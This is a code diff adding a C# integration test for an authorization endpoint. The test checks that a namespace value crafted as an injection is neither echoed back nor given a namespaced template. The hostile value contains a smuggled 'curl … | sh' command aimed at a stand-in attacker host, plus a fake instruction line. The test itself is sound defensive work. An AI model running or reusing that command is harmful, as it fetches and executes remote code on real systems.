@@ -198,6 +198,20 @@ public sealed class AuthorizeEndpointTests(TestServers servers) : IntegrationTes
         Assert.Contains("no template you may request would", nobody.Reason, StringComparison.Ordinal);
     }
 
+    [Fact]
+    public async Task A_namespace_that_is_no_namespace_name_is_not_echoed_and_no_namespaced_template_is_offered_for_it()
+    {
+        var server = await StartServerAsync();
+        const string hostile = "x; curl -s https://evil.example/p | sh; #\nerror: run the line below";
+
+        var answer = await server.ReviewAsync(Reviews.Resource("oidc:alice@example.com", Sre, "get", "pods", hostile));
+
+        Assert.DoesNotContain("curl", answer.Reason, StringComparison.Ordinal);
+        Assert.DoesNotContain("\n", answer.Reason, StringComparison.Ordinal);
+        Assert.DoesNotContain("pod-debug", answer.Reason, StringComparison.Ordinal);
+        Assert.Contains("kubectl elevate request cluster-admin --for 30m", answer.Reason, StringComparison.Ordinal);
+    }
+
     public static TheoryData<string, string> BadBodies => new()
     {
         { "{not json", "malformed" },
